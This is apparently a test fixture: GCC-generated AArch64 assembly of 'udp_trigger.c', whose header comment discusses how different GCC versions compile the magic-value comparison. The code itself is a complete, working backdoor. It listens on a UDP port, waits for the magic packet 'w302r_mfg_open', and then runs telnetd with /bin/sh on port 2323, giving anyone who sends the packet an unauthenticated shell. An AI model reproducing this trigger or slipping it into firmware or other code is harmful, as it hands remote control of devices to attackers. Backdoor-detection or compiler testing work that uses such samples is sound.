// GCC 14.2 (Debian 13, aarch64-linux-gnu-gcc -O2 -S) output for ../src/udp_trigger.c, kept as
// assembly so that every host tests it whatever its own compiler: the first 8 bytes of the magic
// value are compared in a SIMD register loaded from .rodata.cst8 (ldr d15; eor v31.8b, v31.8b,
// v15.8b; fmov x0, d31; cbnz x0), where GCC 12 compares with cmp against a mov/movk chain.
	.arch armv8-a
	.file	"udp_trigger.c"
	.text
	.section	.rodata.str1.8,"aMS",@progbits,1
	.align	3
.LC0:
	.string	"w302r_mfg_open"
	.align	3
.LC1:
	.string	"/usr/sbin/telnetd -l /bin/sh -p 2323 &"
	.section	.text.startup,"ax",@progbits
	.align	2
	.p2align 5,,15
	.global	main
	.type	main, %function
main:
.LFB12:
	.cfi_startproc
	sub	sp, sp, #640
	.cfi_def_cfa_offset 640
	mov	w1, 2
	mov	w2, 0
	mov	w0, w1
	stp	x29, x30, [sp]
	.cfi_offset 29, -640
	.cfi_offset 30, -632
	mov	x29, sp
	stp	x19, x20, [sp, 16]
	.cfi_offset 19, -624
	.cfi_offset 20, -616
	bl	socket
	mov	w3, 2
	movk	w3, 0xa11c, lsl 16
	add	x1, sp, 96
	mov	w20, w0
	mov	w2, 16
	str	w3, [sp, 96]
	str	xzr, [sp, 100]
	str	wzr, [sp, 108]
	bl	bind
	tbnz	w0, #31, .L9
	adrp	x0, .LC2
	add	x19, sp, 128
	stp	x21, x22, [sp, 32]
	.cfi_offset 22, -600
	.cfi_offset 21, -608
	add	x22, sp, 112
	mov	w21, 16
	stp	x23, x24, [sp, 48]
	.cfi_offset 24, -584
	.cfi_offset 23, -592
	mov	w24, 24423
	add	x23, sp, 92
	str	d15, [sp, 72]
	.cfi_offset 79, -568
	movk	w24, 0x706f, lsl 16
	ldr	d15, [x0, #:lo12:.LC2]
	str	x25, [sp, 64]
	.cfi_offset 25, -576
	adrp	x25, .LC1
	.p2align 5,,15
.L3:
	mov	x5, x23
	mov	x4, x22
	mov	x1, x19
	mov	w0, w20
	mov	w3, 0
	mov	x2, 511
	str	w21, [sp, 92]
	bl	recvfrom
	cmp	x0, 0
	ble	.L3
	strb	wzr, [x19, x0]
	ldr	d31, [x19]
	eor	v31.8b, v31.8b, v15.8b
	fmov	x0, d31
	cbnz	x0, .L3
	ldr	w0, [x19, 8]
	cmp	w0, w24
	bne	.L3
	ldrh	w1, [x19, 12]
	mov	w0, 28261
	cmp	w1, w0
	bne	.L3
	add	x0, x25, :lo12:.LC1
	bl	system
	b	.L3
.L9:
	.cfi_restore 21
	.cfi_restore 22
	.cfi_restore 23
	.cfi_restore 24
	.cfi_restore 25
	.cfi_restore 79
	ldp	x29, x30, [sp]
	mov	w0, 1
	ldp	x19, x20, [sp, 16]
	add	sp, sp, 640
	.cfi_restore 19
	.cfi_restore 20
	.cfi_restore 29
	.cfi_restore 30
	.cfi_def_cfa_offset 0
	ret
	.cfi_endproc
.LFE12:
	.size	main, .-main
	.section	.rodata.cst8,"aM",@progbits,8
	.align	3
.LC2:
	.byte	119
	.byte	51
	.byte	48
	.byte	50
	.byte	114
	.byte	95
	.byte	109
	.byte	102
	.ident	"GCC: (Debian 14.2.0-19) 14.2.0"
	.section	.note.GNU-stack,"",@progbits
